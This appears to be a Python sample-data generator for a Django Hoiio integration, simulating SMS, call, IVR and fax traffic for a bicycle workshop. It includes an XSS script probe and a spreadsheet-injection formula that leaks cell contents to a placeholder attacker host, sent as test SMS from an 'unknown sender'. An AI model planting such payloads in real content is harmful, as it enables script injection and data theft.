"""Sample data: some days of a bicycle workshop with a shop abroad, its customers, messages and failures."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import datetime, timedelta, timezone
from functools import partial
from operator import itemgetter
from random import Random
from typing import Any
from urllib.parse import urlencode

from django.db.models import F

from django_hoiio.enums import Kind, VerifiedBy
from django_hoiio.ingest import ingest
from django_hoiio.ingest.outgoing import enter
from django_hoiio.models import Notification, ReceiverFailure, Sms
from django_hoiio.retention.totals import close
from django_hoiio.signals import sms_received, sms_status
from tests.conftest import FORM, raw_notification

MEI = "+6591234567"
STRANGER = "+6598765432"
OURS = "+6562221000"
ABROAD = "batam"
BULK = "AA-B-2041"

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
QUESTION = "Hello! The chain came off again on the way home. When could I bring the bike in?"
SECRET = "My door code is 4711, please ring twice."
RECORDING = "https://recordings.example.com/rec-8812.mp3"
ACCOUNTS = {
    "default": {"APP_ID": "workshop", "ACCESS_TOKEN": "token"},
    ABROAD: {"APP_ID": "shop", "ACCESS_TOKEN": "other token"},
}

# Hoiio's time zone.
_GMT8 = timezone(timedelta(hours=8))
# Currency, price of an SMS and price of a minute, by account.
_PRICES = {"default": ("SGD", 0.032, 0.018), ABROAD: ("USD", 0.025, 0.041)}
_OUTCOMES = ["answered"] * 7 + ["unanswered", "unanswered", "busy"]
_QUESTIONS = [
    "Is my bike ready?",
    "How much is a new chain?",
    "Are you open on Sunday?",
    "Flat tyre again. Can I come by today?",
    "Thanks, see you at five!",
]
_TAGS = ["order", "reminder", "invoice"]


class Workshop:
    """Generate the days up to now, with the same random values each time."""

    def __init__(self, days: int) -> None:
        self.days = days
        self.random = Random(7)
        self.count = 0
        self.began: dict[str, datetime] = {}
        self.plan: list[tuple[datetime, Callable[[], object]]] = []
        self.now = datetime.now(timezone.utc)

    def open(self) -> None:
        """Ingest the notifications of all days, and close their totals."""
        for ago in reversed(range(1, self.days + 1)):
            self._day(self._at(ago, 8))
        self._bulk(self._at(2, 10))
        self._today()
        self._mei()
        self._unknown_sender()
        with _listening():
            for _moment, happen in sorted(self.plan, key=itemgetter(0)):
                happen()
        # Set the times of dispatch to the simulated time.
        Notification.objects.update(dispatched_at=F("received_at") + timedelta(milliseconds=40), claimed_until=None)
        for failure in ReceiverFailure.objects.select_related("notification"):
            failure.failed_at = failure.notification.received_at + timedelta(milliseconds=35)
            failure.save()
        _resolve(ReceiverFailure.objects.filter(notification__txn_ref="AA-SI-9001"))
        close()

    # Daily traffic.

    def _day(self, morning: datetime) -> None:
        weight = 0.25 if morning.weekday() == 6 else 0.8 + self.random.random() * 0.6
        for _ in range(round(11 * weight)):
            self._sms_sent(self._soon(morning), "default")
        for _ in range(round(4 * weight)):
            self._sms_sent(self._soon(morning), ABROAD)
        for _ in range(round(5 * weight)):
            self._sms_received(self._soon(morning))
        for _ in range(round(5 * weight)):
            self._call(self._soon(morning), self.random.choice(["default", "default", ABROAD]))
        for _ in range(round(4 * weight)):
            self._menu(self._soon(morning))
        for _ in range(round(self.random.choice([0, 1, 2]) * weight)):
            self._hung_up(self._soon(morning))
        for _ in range(round(self.random.choice([0, 1, 1, 2, 3]) * weight)):
            self._fax(self._soon(morning))

    def _today(self) -> None:
        """The last hours: some messages failed, and the latest SMS is not final."""
        for minutes, account, end in (
            (218, "default", "delivered"),
            (171, "default", "delivered"),
            (112, "default", "failed"),
            (94, ABROAD, "delivered"),
            (47, "default", "delivered"),
            (18, "default", ""),
        ):
            self._sms_sent(self.now - timedelta(minutes=minutes), account, end)
        for minutes in (203, 131, 66):
            self._call(self.now - timedelta(minutes=minutes), "default")
        self._sms_received(self.now - timedelta(minutes=155))
        self._menu(self.now - timedelta(minutes=83))

    def _sms_sent(self, moment: datetime, account: str, end: str | None = None) -> None:
        currency, price, _minute = _PRICES[account]
        named = {
            **self._named("AA-S", moment),
            "dest": self._number(account),
            "tag": f"{self.random.choice(_TAGS)} {self.random.randint(1200, 4800)}",
            "currency": currency,
            "rate": price,
        }
        self.schedule(moment, "sms", {**named, "sms_status": "queued"}, account)
        if end is None:
            end = self.random.choices(["delivered", "failed", ""], [92, 7, 1])[0]
        if end:
            self.schedule(moment + timedelta(seconds=9), "sms", {**named, "sms_status": end, "debit": price}, account)

    def _sms_received(self, moment: datetime) -> None:
        params = {"from": self._number("default"), "to": OURS, "msg": self.random.choice(_QUESTIONS)}
        self.schedule(moment, "sms", {**self._named("AA-SI", moment), **params, "debit": 0.013, "currency": "SGD"})

    def _call(self, moment: datetime, account: str) -> None:
        currency, _price, minute = _PRICES[account]
        outcome = self.random.choice(_OUTCOMES)
        minutes = self.random.randint(1, 12) if outcome == "answered" else 0
        params = {
            "dest1": OURS,
            "dest2": self._number(account),
            "call_status_dest1": "answered",
            "call_status_dest2": outcome,
            "duration": minutes,
            "rate": minute,
            "debit": f"{minute * minutes:.3f}",
            "currency": currency,
        }
        self.schedule(moment, "voice", {**self._named("AA-C", moment), **params}, account)

    def _hung_up(self, moment: datetime) -> None:
        """A caller who hangs up before the menu starts."""
        named = self._named("AA-C", moment)
        call = {**named, "session": f"S-{named['txn_ref'][5:]}", "from": self._number("default"), "to": OURS}
        self.schedule(moment, "ivr", {**call, "ivr_block": "answer", "call_state": "ringing"})
        self.schedule(moment + timedelta(seconds=3), "ivr", {**call, "call_state": "ended", "duration": 0})

    def _menu(self, moment: datetime, number: str = "", recording: str = "", digits: str = "1") -> None:
        named = self._named("AA-C", moment)
        call = {**named, "session": f"S-{named['txn_ref'][5:]}", "from": number or self._number("default"), "to": OURS}
        self.schedule(moment, "ivr", {**call, "ivr_block": "answer", "call_state": "ringing"})
        pressed = moment + timedelta(seconds=14)
        self.schedule(pressed, "ivr", {**call, "ivr_block": "gather", "call_state": "ongoing", "digits": digits})
        if recording:
            recorded = {"ivr_block": "record", "call_state": "ongoing", "record_url": recording}
            self.schedule(moment + timedelta(seconds=58), "ivr", {**call, **recorded})
        ended = {"call_state": "ended", "duration": 2, "debit": 0.036, "currency": "SGD"}
        self.schedule(moment + timedelta(seconds=71), "ivr", {**call, **ended})

    def _fax(self, moment: datetime, number: str = "") -> None:
        params = {
            "from": number or self._number("default"),
            "to": OURS,
            "fax_status": "answered",
            "fax_pages": self.random.randint(1, 4),
            "fax_url": f"https://faxes.example.com/fax-{self.count}.pdf",
        }
        self.schedule(moment, "fax", {**self._named("AA-C", moment), **params, "debit": 0.05, "currency": "SGD"})

    # Rows for the screenshots and the tests.

    def _bulk(self, moment: datetime) -> None:
        """A bulk SMS of 48 messages: some are refused, some fail, and a few are not final."""
        for place in range(48):
            number = {"dest": self._number("default"), "bulk_txn_ref": BULK}
            if place % 20 == 19:
                self.schedule(moment, "sms", {**number, "status": "error_dest_not_supported"})
                continue
            named = {**number, "txn_ref": f"AA-S-70{place:02}"}
            self.schedule(moment, "sms", {**named, "status": "success_ok"})
            end = {3: "failed", 17: "failed", 30: "failed", 41: "failed", 45: "queued", 46: "queued"}
            params = {
                "sms_status": end.get(place, "delivered"),
                "tag": "autumn check",
                "currency": "SGD",
                "debit": 0.032,
            }
            self.schedule(moment + timedelta(seconds=5), "sms", {**named, **params})

    def _mei(self) -> None:
        """A customer writes, gets an answer, calls, and leaves a message."""
        first, second = self._at(3, 9), self._at(1, 11)
        common = {"from": MEI, "to": OURS, "debit": 0.013, "currency": "SGD"}
        self.schedule(first, "sms", {**common, "txn_ref": "AA-SI-9001", "msg": QUESTION})
        self._answer(
            "AA-S-9002",
            first + timedelta(minutes=4),
            "Hello Mei, sorry to hear that. Tomorrow from nine, and it is ready in the afternoon. Your workshop",
        )
        self._menu(first + timedelta(hours=6), MEI, RECORDING, "2")
        self._fax(first + timedelta(hours=7), MEI)
        self._answer(
            "AA-S-9003",
            second,
            "Your bicycle is ready: new chain and cassette, 86.50 SGD. We are open until seven.",
            is_late=True,
        )
        self.schedule(
            second + timedelta(minutes=9), "sms", {**common, "txn_ref": "AA-SI-9004", "msg": "Great, I come at six."}
        )
        missed = {"dest1": OURS, "dest2": MEI, "call_status_dest1": "answered", "call_status_dest2": "unanswered"}
        charge = {"duration": 0, "debit": "0.000", "currency": "SGD"}
        self.schedule(second + timedelta(hours=8), "voice", {"txn_ref": "AA-C-9005", **missed, **charge})
        self.schedule(self._at(0, 0), "sms", {**common, "txn_ref": "AA-SI-9006", "msg": SECRET})

    def _answer(self, txn_ref: str, moment: datetime, msg: str, *, is_late: bool = False) -> None:
        """An SMS that the workshop sends. With `is_late`, its reports arrive out of order."""
        self.plan.append((moment, partial(_send, txn_ref, moment, msg)))
        named = {"txn_ref": txn_ref, "dest": MEI, "tag": "order 3117", "currency": "SGD", "rate": 0.032}
        reports: list[dict[str, object]] = [{"sms_status": "queued"}, {"sms_status": "delivered", "debit": 0.032}]
        if is_late:
            reports += [{"sms_status": "queued", "split_count": "one"}]
        for place, report in enumerate(reports):
            self.schedule(
                moment + timedelta(seconds=2 + 4 * place), "sms", {**named, **report}, pass_on={"order": "3117"}
            )

    def _unknown_sender(self) -> None:
        """An unknown sender who tries to inject code by SMS."""
        for txn_ref, msg in (("AA-SI-9101", SCRIPT), ("AA-SI-9102", FORMULA)):
            params = {"from": STRANGER, "to": OURS, "msg": msg, "txn_ref": txn_ref, "debit": 0.013, "currency": "SGD"}
            self.schedule(self._at(1, 13), "sms", params)

    # Notifications.

    def schedule(
        self, moment: datetime, route: str, params: dict[str, Any], account: str = "default", **fields: Any
    ) -> None:
        """Schedule a notification as Hoiio would have posted it at `moment`."""
        # All notifications of a call, SMS or fax have the date of its start.
        began = self.began.setdefault(params["txn_ref"], moment) if "txn_ref" in params else moment
        date = {"date": began.astimezone(_GMT8).strftime("%Y-%m-%d %H:%M:%S")}
        delivery = {
            "received_at": moment,
            "account": account,
            "verified_by": VerifiedBy.URL,
            "remote_addr": "203.0.113.7",
        }
        headers = {"Content-Type": FORM, "User-Agent": "Hoiio/1.0"}
        raw = raw_notification(route, "", urlencode({**params, **date}), **delivery, headers=headers, **fields)
        self.plan.append((moment, partial(ingest, raw)))

    def _named(self, prefix: str, moment: datetime) -> dict[str, Any]:
        self.count += 1
        return {"txn_ref": f"{prefix}-{3000 + self.count}"}

    def _number(self, account: str) -> str:
        if account == ABROAD:
            return f"+62811{self.random.randint(1_000_000, 9_999_999)}"
        return f"+659{self.random.randint(1_000_000, 9_999_999)}"

    def _at(self, ago: int, hour: int) -> datetime:
        """Return an hour of the day `ago` days ago. For today, return a quarter of an hour ago."""
        if not ago:
            return self.now - timedelta(minutes=15)
        return (self.now - timedelta(days=ago)).replace(hour=hour, minute=12, second=31, microsecond=0)

    def _soon(self, morning: datetime) -> datetime:
        return morning + timedelta(seconds=self.random.randint(0, 10 * 3600))


@contextmanager
def _listening() -> Iterator[None]:
    """Connect the workshop's receivers: one ignores each SMS, one raises for some senders."""

    def note(**arguments: Any) -> None:
        pass

    def answer(sms: Sms, **arguments: Any) -> None:
        if sms.remote_number in (MEI, STRANGER):
            raise LookupError(f"no order of {sms.remote_number}")

    sms_status.connect(note, dispatch_uid="workshop.orders.note")
    sms_received.connect(note, dispatch_uid="workshop.orders.note")
    sms_received.connect(answer, dispatch_uid="workshop.receivers.answer")
    yield
    for signal, uid in (
        (sms_status, "workshop.orders.note"),
        (sms_received, "workshop.orders.note"),
        (sms_received, "workshop.receivers.answer"),
    ):
        signal.disconnect(dispatch_uid=uid)


def _send(txn_ref: str, moment: datetime, msg: str) -> None:
    enter(Kind.SMS_STATUS, "default", txn_ref, {"dest": MEI, "msg": msg, "tag": "order 3117"})
    Sms.objects.filter(txn_ref=txn_ref).update(created_at=moment, updated_at=moment)


def _resolve(failures: Any) -> None:
    failures.update(attempts=2, resolved_at=F("failed_at") + timedelta(minutes=5))
